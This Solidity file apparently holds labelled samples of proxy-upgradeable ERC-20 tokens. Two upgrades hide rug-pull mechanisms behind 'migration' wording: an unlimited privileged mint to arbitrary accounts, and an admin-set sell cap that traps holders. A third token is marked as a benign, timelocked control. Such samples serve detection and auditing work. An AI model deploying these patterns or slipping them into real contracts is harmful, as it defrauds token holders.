// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// An initializable ERC-20 to sit behind a proxy.
contract GatewayToken {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) public allowance;
    bool private _initialized;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata name_, string calldata symbol_, uint256 supply, address holder) external {
        require(!_initialized, "initialized");
        _initialized = true;
        name = name_;
        symbol = symbol_;
        _mint(holder, supply);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        _balances[from] -= amount;
        _balances[to] += amount;
        emit Transfer(from, to, amount);
    }

    function _mint(address to, uint256 amount) internal {
        totalSupply += amount;
        _balances[to] += amount;
        emit Transfer(address(0), to, amount);
    }
}

/// The upgrade that lands after launch: a "holder migration" that mints to any list of accounts.
contract GatewayTokenV2 is GatewayToken {
    address private _migrator;

    function initializeV2(address migrator) external {
        require(_migrator == address(0), "initialized");
        _migrator = migrator;
    }

    function migrateHolders(address[] calldata accounts, uint256 amount) external {
        require(msg.sender == _migrator, "migrator only");
        for (uint256 i = 0; i < accounts.length; i++) _mint(accounts[i], amount);
    }
}

/// The same clean start; its upgrade adds a sell cap the admin "migrates" to any value.
contract CanalToken is GatewayToken {}

contract CanalTokenV2 is GatewayToken {
    address private _admin;
    address private _pair;
    uint256 private _maxSell;

    function initializeV2(address admin, address pair) external {
        require(_admin == address(0), "initialized");
        _admin = admin;
        _pair = pair;
        _maxSell = type(uint256).max;
    }

    function migrate(uint256 maxSell) external {
        require(msg.sender == _admin, "admin only");
        _maxSell = maxSell;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == _pair && from != _admin) require(amount <= _maxSell, "migration in progress");
        super._transfer(from, to, amount);
    }
}

/// Benign: the same token whose proxy is administered by a two-day timelock.
contract CivicToken is GatewayToken {}
